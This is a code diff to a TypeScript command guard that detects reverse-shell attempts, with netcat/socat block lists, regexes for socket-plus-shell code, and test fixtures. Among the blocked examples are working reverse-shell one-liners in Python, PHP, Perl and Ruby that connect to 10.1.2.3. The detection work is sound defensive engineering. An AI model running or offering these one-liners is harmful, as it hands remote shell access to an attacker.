@@ -1,34 +1,40 @@
-import type { GuardCategory, SimpleCommand } from '../api.ts';
+import type { GuardCategory, GuardTest, SimpleCommand } from '../api.ts';
 import { hasFlag, operands } from '../flags.ts';
+import { LANGUAGES } from './matching/interpreters.ts';
 import { feeders } from './matching/pipeline.ts';
 import { isLocalHost } from './matching/places.ts';
-import { anyOf, shapes, type Test } from './matching/shape.ts';
+import { shapes } from './matching/shape.ts';
+import { anyOf, familyOf, forPrograms } from './matching/tests.ts';
 
-const NETCATS = /^(nc|ncat|netcat|nc\.(traditional|openbsd)|pwncat|cryptcat|rustcat|rcat)$/;
-const SHELLS = /^(ba|z|da|k|c|tc|fi|a)?sh$/;
+const NETCATS: readonly string[] = 'nc ncat netcat pwncat cryptcat rustcat rcat'.split(' ');
+const SHELLS: readonly string[] = 'sh bash zsh dash ksh csh tcsh fish ash'.split(' ');
 const NETWORK_FILE = /^\/dev\/(tcp|udp)\/([^/]+)\//;
 
 /** Words and redirections to `/dev/tcp/HOST/PORT`, except to this machine. */
-const usesNetworkFile: Test = (command) =>
+const usesNetworkFile: GuardTest = (command) =>
   [...command.redirects.map(({ target }) => target), ...command.args].some(({ text }) => {
     const host = NETWORK_FILE.exec(text)?.[2];
     return host !== undefined && !isLocalHost(host);
   });
 
-const listensForShell: Test = (command) =>
-  (NETCATS.test(command.name) && hasFlag(command, 'e', 'c', 'exec', 'sh-exec', 'lua-exec')) ||
-  (/^socat\d?$/.test(command.name) &&
-    command.args.some(({ text }) => /^(exec|system|shell|tun|tcp-?l(isten)?\b.*fork.*exec)/i.test(text)));
+const listensForShell = anyOf(
+  forPrograms(NETCATS, (command) => hasFlag(command, 'e', 'c', 'exec', 'sh-exec', 'lua-exec')),
+  forPrograms('socat', ({ args }) =>
+    args.some(({ text }) => /^(exec|system|shell|tun|tcp-?l(isten)?\b.*fork.*exec)/i.test(text)),
+  ),
+);
 
 /** A shell whose input or output is a network connection: `nc HOST PORT | sh`, `sh -i | nc HOST PORT`. */
-const pipesShell: Test = (command) => {
-  const before = feeders(command);
-  if (isNetwork(command)) return before.some(({ name }) => SHELLS.test(name));
-  return SHELLS.test(command.name) && before.some(isNetwork);
-};
+const pipesShell = anyOf(
+  forPrograms(
+    [...NETCATS, 'socat', 'telnet', 'openssl'],
+    (command) => isNetwork(command) && feeders(command).some(({ name }) => SHELLS.includes(name)),
+  ),
+  forPrograms(SHELLS, (command) => feeders(command).some(isNetwork)),
+);
 
 function isNetwork(command: SimpleCommand): boolean {
-  if (NETCATS.test(command.name))
+  if (NETCATS.includes(familyOf(command.name)))
     return !operands(command).some(({ text }) => isLocalHost(text)) || hasFlag(command, 'l');
   return (
     /^(socat|telnet|openssl)$/.test(command.name) &&
@@ -36,22 +42,18 @@ function isNetwork(command: SimpleCommand): boolean {
   );
 }
 
-const INTERPRETERS =
-  /^(python[\d.]*|pypy3?|perl|ruby|php[\d.]*|node|nodejs|bun|deno|lua[\d.]*|tclsh|osascript|pwsh|awk|gawk|go|jrunscript|java|groovy|julia|R|Rscript)$/;
-
 /** Code that opens a connection, and code that hands a shell to it. */
 const CONNECTS =
   /\bsocket\b|fsockopen|TCPSocket|net\.(connect|Socket|createConnection)|require\(["'](node:)?net["']\)|\/inet\/tcp|IO::Socket|use Socket|TCPClient|net\.Dial/;
 const GIVES_SHELL =
-  /(ba|z|da|k)?sh["'\s)]|\bpty\b|dup2|child_process|subprocess|getline|os\.(system|popen|exec)|\bexec\b|proc_open|shell_exec|system\(|spawn|cmd\.exe|powershell/;
+  /(ba|z|da|k)?sh["'\s)]|\bpty\b|dup2|child_process|subprocess|getline|os\.(system|popen|exec)|\bexec\b|proc_open|shell_exec|(?<!platform\.)system\s*[($]|fdopen|spawn|cmd\.exe|powershell/;
 
-const connectsShell: Test = (command) => {
-  if (!INTERPRETERS.test(command.name)) return false;
+const connectsShell = forPrograms([...LANGUAGES, 'awk', 'gawk', 'go', 'java', 'jrunscript', 'pwsh'], (command) => {
   const typed = command.input.kind === 'text' ? [command.input.text] : [];
   return [...command.args.map((word) => word.text), ...typed].some(
     (code) => CONNECTS.test(code) && GIVES_SHELL.test(code),
   );
-};
+});
 
 export const reverseShell: GuardCategory = {
   id: 'reverse-shell',
@@ -96,10 +98,11 @@ export const reverseShell: GuardCategory = {
         block: [
           `python3 -c 'import socket,subprocess;s=socket.create_connection(("10.1.2.3",1));subprocess.call(["sh","-i"],stdin=s)'`,
           `php -r '$s=fsockopen("10.1.2.3",1);exec("sh -i <&3 >&3");'`,
+          `perl -e '$c=new IO::Socket::INET("10.1.2.3:1");STDIN->fdopen($c,r);system$_ while<>'`,
           `ruby -rsocket -e 'c=TCPSocket.new("10.1.2.3",1);while l=c.gets;IO.popen(l,"r"){|o|c.print system("sh")};end'`,
         ],
         allow: [
-          `python3 -c 'import socket; print(socket.gethostname())'`,
+          `python3 -c 'import socket, platform; print(platform.system(), socket.gethostname())'`,
           `node -e 'require("net").createServer().listen(0)'`,
           `python3 -c 'import subprocess; subprocess.run(["ls"])'`,
         ],
